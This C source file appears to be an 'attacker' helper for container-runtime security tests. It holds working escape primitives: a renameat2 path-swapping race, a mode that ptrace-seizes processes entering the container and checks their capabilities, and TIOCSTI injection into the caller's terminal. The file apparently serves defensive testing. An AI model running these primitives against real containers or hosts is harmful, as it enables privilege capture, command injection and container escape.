/*
 * What somebody hostile runs in a container: one static program, so that it runs in any image. The first word says what it does.
 * Each loop ends by itself after a number of rounds; what it has won, it prints.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define SWAPS 50000000l
#define SWAPS_UNTIL_READY 100
#define ROUNDS 200000000l

static void say(const char *text)
{
    if (write(STDOUT_FILENO, text, strlen(text)) < 0)
        _exit(1);
}

/* swap A B: exchanges two names all the time. A reader of either sees one thing, then the other, and never nothing. */
static int swap(const char *one, const char *other)
{
    for (long count = 0; count < SWAPS; count++) {
        if (syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) < 0)
            return errno == ENOENT ? 0 : (perror("renameat2"), 1); /* its directory has gone: the test is over */
        if (count == SWAPS_UNTIL_READY)
            say("swapping\n");
    }
    return 0;
}

static bool traced(pid_t pid)
{
    int status;

    if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
        return false;
    ptrace(PTRACE_INTERRUPT, pid, 0, 0);
    waitpid(pid, &status, __WALL);
    return true;
}

/* The capabilities that a process has at this moment, as /proc says them. */
static unsigned long long effective(pid_t pid)
{
    char path[64], line[256];
    unsigned long long mask = 0;

    snprintf(path, sizeof path, "/proc/%d/status", pid);
    FILE *status = fopen(path, "re");

    while (status != NULL && fgets(line, sizeof line, status) != NULL)
        if (sscanf(line, "CapEff: %llx", &mask) == 1)
            break;
    if (status != NULL)
        fclose(status);
    return mask;
}

static void boast(pid_t pid, unsigned long long ours)
{
    say(effective(pid) & ~ours ? "caught one that may do more\n" : "caught an equal\n");
    ptrace(PTRACE_DETACH, pid, 0, 0);
}

/* hunt: traces what comes into our pid namespace as soon as it is there, and says whether it may do more than we. */
static int hunt(void)
{
    unsigned long long ours = effective(getpid());
    pid_t first = getpid() + 1;

    say("hunting\n");
    for (long round = 0; round < ROUNDS; round++) {
        /* The next to come takes one of the next numbers: nobody else here makes processes. */
        pid_t pid = first + (pid_t)(round % 4);

        if (traced(pid))
            boast(pid, ours);
        else if (errno == ESRCH)
            continue;
        else
            say("refused\n");
        first = pid + 1;
    }
    return 0;
}

/* type TEXT: puts characters into the input of our terminal, for whoever reads it behind us. */
static int type(const char *text)
{
    for (; *text != 0; text++)
        if (ioctl(STDIN_FILENO, TIOCSTI, text) < 0)
            return perror("TIOCSTI"), 1;
    return 0;
}

/* pending: how many characters wait in our terminal. */
static int pending(void)
{
    int count = 0;

    if (ioctl(STDIN_FILENO, FIONREAD, &count) < 0)
        return perror("FIONREAD"), 1;
    printf("pending %d\n", count);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc == 4 && strcmp(argv[1], "swap") == 0)
        return swap(argv[2], argv[3]);
    if (argc == 2 && strcmp(argv[1], "hunt") == 0)
        return hunt();
    if (argc == 3 && strcmp(argv[1], "type") == 0)
        return type(argv[2]);
    if (argc == 2 && strcmp(argv[1], "pending") == 0)
        return pending();
    fprintf(stderr, "usage: attacker swap A B | hunt | type TEXT | pending\n");
    return 2;
}
